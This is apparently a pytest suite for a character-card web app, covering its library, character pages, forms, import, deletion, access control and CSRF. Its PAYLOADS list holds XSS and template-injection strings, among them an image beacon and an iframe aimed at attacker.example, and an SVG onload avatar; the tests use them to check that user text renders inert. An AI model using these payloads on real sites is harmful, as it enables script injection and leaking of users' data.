"""Character pages: the library, a character's page, the form, import, delete; user text safe."""

import io
import json
import re
from collections.abc import Awaitable, Callable

import httpx
import pytest
from PIL import Image as PillowImage

from tests.formats.make_fixtures import fixture
from tests.web.conftest import Browser
from tests.web.markup_checks import unsafe_markup

ApiClient = Callable[[str], Awaitable[httpx.AsyncClient]]

PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![beacon](https://attacker.example/pixel.png?chat=secret)",
    '<iframe src="https://attacker.example"></iframe>',
    "<style>body{display:none}</style>",
    '"><script>alert(1)</script>',
    "{{ ''.__class__ }} {% for x in y %} ${7*7}",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[x](  JaVaScRiPt:alert(1))",
]
CARD_TEXT_FIELDS = (
    "name", "nickname", "description", "personality", "scenario", "first_mes", "mes_example",
    "system_prompt", "post_history_instructions", "creator_notes", "creator", "character_version",
)  # fmt: skip


def png() -> bytes:
    output = io.BytesIO()
    PillowImage.new("RGB", (12, 16), (120, 40, 200)).save(output, format="PNG")
    return output.getvalue()


@pytest.fixture
async def script(alice: Browser, api_client: ApiClient) -> httpx.AsyncClient:
    return await api_client("alice")


async def test_a_public_character_page_opens_without_signing_in(
    script: httpx.AsyncClient, anonymous: Browser
) -> None:
    created = await script.post(
        "/api/v1/characters",
        json={
            "name": "Wren",
            "first_mes": "Welcome to the lighthouse.",
            "creator_notes": "**Cozy** card. [Guide](https://example.org/guide)",
            "tags": ["cozy"],
            "visibility": "public",
        },
    )
    page = await anonymous.page(f"/characters/{created.json()['id']}")
    assert page.status_code == 200
    assert "Welcome to the lighthouse." in page.text
    assert "<strong>Cozy</strong>" in page.text
    assert 'href="https://example.org/guide" rel="nofollow noopener noreferrer"' in page.text
    assert "Sign in to chat" in page.text
    assert 'href="/api/v1/characters/' in page.text and "format=charx" in page.text


async def test_the_start_chat_button_posts_the_character_to_chats(
    script: httpx.AsyncClient, alice: Browser
) -> None:
    created = (await script.post("/api/v1/characters", json={"name": "Wren"})).json()
    page = await alice.page(f"/characters/{created['id']}")
    form = re.search(r'<form[^>]*action="/chats"[^>]*>(.*?)</form>', page.text, re.S)
    assert form is not None and 'method="post"' in form.group(0)
    assert f'name="character_id" value="{created["id"]}"' in form.group(1)
    assert f'name="csrf_token" value="{alice.csrf}"' in form.group(1)


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_hostile_card_text_renders_inert_everywhere(
    script: httpx.AsyncClient, alice: Browser, anonymous: Browser, payload: str
) -> None:
    fields: dict[str, object] = {name: f"{payload} {name}" for name in CARD_TEXT_FIELDS}
    fields.update(
        tags=[payload], alternate_greetings=[payload], visibility="public", name=payload[:256]
    )
    created = await script.post("/api/v1/characters", json=fields)
    assert created.status_code == 201, created.text
    character_id = created.json()["id"]
    for browser, path in [
        (anonymous, f"/characters/{character_id}"),
        (anonymous, "/library"),
        (anonymous, f"/library?q={payload[:50]}"),
        (alice, f"/characters/{character_id}/edit"),
        (alice, "/characters/mine"),
    ]:
        page = await browser.page(path)
        assert page.status_code == 200, path
        assert unsafe_markup(page.text) == [], path
    assert "attacker.example/pixel.png" not in re.findall(r'<img[^>]*src="([^"]*)"', page.text)


async def test_creating_a_character_through_the_form(alice: Browser) -> None:
    await alice.page("/characters/new")
    response = await alice.submit(
        "/characters/new",
        {
            "name": "Wren",
            "description": "Keeper of the light.",
            "first_mes": "Hello.\r\nWelcome.",
            "alternate_greetings": ["Second hello.", "", "Third hello."],
            "tags": "cozy, Lighthouse, cozy",
            "visibility": "unlisted",
            "adult": "on",
            "character_book": '{"entries": [{"keys": ["lamp"], "content": "Old."}]}',
        },
        files={"avatar": ("me.png", png(), "image/png")},
    )
    assert response.status_code == 303
    character_id = response.headers["location"].rsplit("/", 1)[1]
    body = (await alice.call("GET", f"/api/v1/characters/{character_id}")).json()
    assert body["first_mes"] == "Hello.\nWelcome."
    assert body["alternate_greetings"] == ["Second hello.", "Third hello."]
    assert body["tags"] == ["cozy", "Lighthouse"]
    assert (body["visibility"], body["adult"]) == ("unlisted", True)
    assert body["character_book"]["entries"][0]["keys"] == ["lamp"]
    assert body["avatar_url"] is not None


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"name": ""}, "name: must not be empty"),
        ({"name": "Wren", "character_book": "{not json"}, "character_book: is not valid JSON"),
        ({"name": "Wren", "character_book": "[1, 2]"}, "must be a JSON object"),
        ({"name": "Wren", "visibility": "world"}, "visibility: must be public"),
        ({"name": "Wren", "description": "x" * 200_001}, "description: is 200001 characters"),
    ],
)
async def test_a_bad_form_is_shown_again_with_the_error_and_the_values(
    alice: Browser, data: dict[str, str], message: str
) -> None:
    await alice.page("/characters/new")
    response = await alice.submit("/characters/new", {"personality": "Kept text", **data})
    assert response.status_code == 422
    assert message in response.text
    assert "Kept text" in response.text
    assert (await alice.call("GET", "/api/v1/me/characters")).json()["total"] == 0


async def test_an_svg_avatar_in_the_form_is_refused(alice: Browser) -> None:
    await alice.page("/characters/new")
    response = await alice.submit(
        "/characters/new",
        {"name": "Wren"},
        files={"avatar": ("x.png", b"<svg onload=alert(1)></svg>", "image/png")},
    )
    assert response.status_code == 415 and "PNG, JPEG or WebP" in response.text


async def test_editing_through_the_form_leaves_untouched_text_exact(
    script: httpx.AsyncClient, alice: Browser
) -> None:
    imported = (
        await script.post(
            "/api/v1/characters/import",
            files={"file": ("c.png", fixture("v2_after_idat.png"))},
        )
    ).json()
    assert "\r\n" in imported["description"]
    edit = await alice.page(f"/characters/{imported['id']}/edit")
    assert edit.status_code == 200
    fields = dict(
        re.findall(r'<textarea id="(\w+)" name="\w+"[^>]*>(.*?)</textarea>', edit.text, re.S)
    )
    assert "scenario" in fields
    response = await alice.submit(
        f"/characters/{imported['id']}/edit",
        {
            "name": imported["name"],
            "description": imported["description"].replace("\r\n", "\n"),
            "personality": imported["personality"],
            "scenario": "A brand new scenario.",
            "first_mes": imported["first_mes"],
            "mes_example": imported["mes_example"],
            "system_prompt": imported["system_prompt"],
            "post_history_instructions": imported["post_history_instructions"],
            "creator_notes": imported["creator_notes"],
            "creator": imported["creator"],
            "character_version": imported["character_version"],
            "tags": ", ".join(imported["tags"]),
            "alternate_greetings": imported["alternate_greetings"],
            "character_book": json.dumps(imported["character_book"]),
            "visibility": "public",
        },
    )
    assert response.status_code == 303
    after = (await script.get(f"/api/v1/characters/{imported['id']}")).json()
    assert after["scenario"] == "A brand new scenario."
    assert after["description"] == imported["description"]
    assert after["character_book"] == imported["character_book"]
    assert after["visibility"] == "public"


async def test_someone_else_cannot_open_the_edit_or_delete_pages(
    script: httpx.AsyncClient, bob: Browser
) -> None:
    private = (await script.post("/api/v1/characters", json={"name": "Mine"})).json()
    public = (
        await script.post("/api/v1/characters", json={"name": "Ours", "visibility": "public"})
    ).json()
    for path in (f"/characters/{private['id']}", f"/characters/{private['id']}/edit"):
        assert (await bob.page(path)).status_code == 404
    assert (await bob.page(f"/characters/{public['id']}/edit")).status_code == 403
    refused = await bob.submit(f"/characters/{private['id']}/delete")
    assert refused.status_code == 404
    page = await bob.page(f"/characters/{public['id']}")
    assert "/edit" not in page.text


async def test_deleting_asks_first_then_deletes(script: httpx.AsyncClient, alice: Browser) -> None:
    created = (await script.post("/api/v1/characters", json={"name": "Gone"})).json()
    confirm = await alice.page(f"/characters/{created['id']}/delete")
    assert "Delete Gone?" in confirm.text
    response = await alice.submit(f"/characters/{created['id']}/delete")
    assert response.headers["location"] == "/characters/mine?notice=deleted"
    assert (await alice.page(f"/characters/{created['id']}")).status_code == 404


async def test_a_new_user_can_add_the_sample_character_and_chat_with_her(
    alice: Browser, anonymous: Browser
) -> None:
    empty = await alice.page("/characters/mine")
    assert "Add Wren to my characters" in empty.text
    assert "Add Wren" not in (await anonymous.page("/library")).text
    response = await alice.submit("/characters/sample")
    assert response.status_code == 303
    page = await alice.page(response.headers["location"])
    assert "Saltmarrow" in page.text and 'action="/chats"' in page.text
    mine = await alice.page("/characters/mine")
    assert "Wren" in mine.text and "Add Wren" not in mine.text
    # Private, like any import: not in the public library.
    assert "Saltmarrow" not in (await anonymous.page("/library")).text


async def test_adding_the_sample_character_needs_the_csrf_token(alice: Browser) -> None:
    await alice.page("/characters/mine")
    refused = await alice.client.post("/characters/sample", data={})
    assert refused.status_code == 403
    assert "0 characters" in (await alice.page("/characters/mine")).text


async def test_importing_several_files_reports_on_each(alice: Browser) -> None:
    await alice.page("/characters/import")
    response = await alice.submit(
        "/characters/import",
        {"visibility": "public"},
        files=[
            ("files", ("good.json", fixture("v3.json"), "application/json")),
            ("files", ("evil.png", fixture("svg_named.png"), "image/png")),
        ],
    )
    assert response.status_code == 200
    assert "Imported as" in response.text and "Ixchel" in response.text
    assert "evil.png" in response.text and "SVG image" in response.text
    library = await alice.page("/library")
    assert "Ixchel" in library.text


async def test_the_library_searches_and_htmx_gets_only_the_results(
    script: httpx.AsyncClient, anonymous: Browser
) -> None:
    for name, tags in (("Anna", ["sci-fi"]), ("Bert", ["fantasy"])):
        await script.post(
            "/api/v1/characters", json={"name": name, "tags": tags, "visibility": "public"}
        )
    page = await anonymous.page("/library?tag=fantasy")
    assert "Bert" in page.text and "Anna" not in page.text
    partial = await anonymous.page(
        "/library?q=ann", headers={"HX-Request": "true", "HX-Target": "results"}
    )
    assert partial.text.lstrip().startswith('<div id="results">')
    assert "Anna" in partial.text and "Bert" not in partial.text and "<html" not in partial.text


async def test_adult_characters_stay_out_of_the_library_page(
    script: httpx.AsyncClient, anonymous: Browser
) -> None:
    await script.post(
        "/api/v1/characters", json={"name": "Nightfall", "visibility": "public", "adult": True}
    )
    assert "Nightfall" not in (await anonymous.page("/library")).text
    mine = await script.get("/api/v1/me/characters")
    assert mine.json()["total"] == 1


async def test_the_library_paginates(script: httpx.AsyncClient, anonymous: Browser) -> None:
    for index in range(25):
        await script.post(
            "/api/v1/characters", json={"name": f"C{index:02}", "visibility": "public"}
        )
    first = await anonymous.page("/library?sort=name")
    assert "Page 1 of 2" in first.text and "C23" in first.text and "C24" not in first.text
    second = await anonymous.page("/library?sort=name&page=2")
    assert "C24" in second.text and "Previous" in second.text


async def test_a_large_lorebook_can_be_pasted_into_the_form(alice: Browser) -> None:
    entries = [{"keys": [f"key{n}"], "content": "lore " * 100} for n in range(3000)]
    book = json.dumps({"entries": entries})
    assert len(book) > 1024 * 1024
    await alice.page("/characters/new")
    response = await alice.submit(
        "/characters/new",
        {"name": "Archivist", "character_book": book},
        files={"avatar": ("", b"", "application/octet-stream")},
    )
    assert response.status_code == 303, response.text[:300]
    character_id = response.headers["location"].rsplit("/", 1)[1]
    stored = (await alice.call("GET", f"/api/v1/characters/{character_id}")).json()
    assert len(stored["character_book"]["entries"]) == 3000
